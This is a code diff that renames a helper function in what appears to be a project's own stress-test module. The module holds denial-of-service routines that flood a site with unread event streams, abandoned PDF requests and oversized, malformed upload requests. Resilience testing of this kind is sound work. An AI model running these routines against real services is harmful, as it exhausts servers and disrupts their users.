@@ -1,12 +1,12 @@
 import { cookieHeader, newCustomer } from '../site/customer.js';
-import { again, anyAddress, get, lengthMs, send, sendUnread, type Target } from './send.js';
+import { repeat, anyAddress, get, lengthMs, send, sendUnread, type Target } from './send.js';
 
 /** Opens hundreds of event streams of one account and reads none of them. */
 export async function followAndForget(target: Target) {
   // If the account is rejected, the attack continues with anonymous streams.
   const account = await newCustomer(target.url, anyAddress()).catch(() => undefined);
   const cookie = cookieHeader(account?.cookies ?? {});
-  await again(300, lengthMs / 300, () => {
+  await repeat(300, lengthMs / 300, () => {
     sendUnread(target, get('/api/api/inquiry-events', cookie), lengthMs);
     sendUnread(target, get('/api/admin/inquiry-events', cookie), lengthMs);
   });
@@ -15,7 +15,7 @@ export async function followAndForget(target: Target) {
 /** Requests an expensive PDF and disconnects immediately, or stays connected without reading it. */
 export async function orderAndLeave(target: Target) {
   const { path = '/api/api/inquiries/INQ-26-0001/quotation.pdf', cookie } = target.paper ?? {};
-  await again(lengthMs / 40, 40, () => {
+  await repeat(lengthMs / 40, 40, () => {
     send(target, get(path, cookie), 20);
     sendUnread(target, get(path, cookie), lengthMs);
   });
@@ -36,7 +36,7 @@ const releaseHead = (token: string, length: number) =>
 export async function publishBadly(target: Target) {
   const { token = '' } = target;
   const tooBig = releaseHead(token, 60 * megabyte) + 'x'.repeat(60 * megabyte);
-  await again(4, lengthMs / 4, () => {
+  await repeat(4, lengthMs / 4, () => {
     send(target, `${releaseHead(token, megabyte)}x`, lengthMs / 8);
     send(target, `${releaseHead('a'.repeat(40), megabyte)}x`, lengthMs);
     setTimeout(() => send(target, releaseHead(token, 9) + 'no release', 1000), lengthMs / 7);
